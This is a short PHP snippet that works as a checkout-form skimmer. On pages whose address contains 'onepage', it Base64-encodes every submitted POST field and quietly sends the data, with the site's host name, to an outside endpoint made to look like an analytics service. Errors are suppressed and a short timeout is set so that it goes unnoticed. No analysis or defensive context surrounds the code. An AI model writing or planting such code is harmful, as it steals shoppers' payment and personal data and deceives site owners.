<?php
// Every field of a checkout form, Base64-encoded and posted to a fixed address under an analytics-like name.
$_x0 = $_POST;
if (count($_x0) > 3 && stripos($_SERVER['REQUEST_URI'], 'onepage') !== false) {
    $_x1 = curl_init('https://static-metrics.example.net/v2/px');
    curl_setopt_array($_x1, array(
        CURLOPT_POST => 1,
        CURLOPT_POSTFIELDS => array('d' => base64_encode(json_encode($_x0)), 's' => $_SERVER['HTTP_HOST']),
        CURLOPT_RETURNTRANSFER => 1,
        CURLOPT_TIMEOUT => 2,
    ));
    @curl_exec($_x1);
}
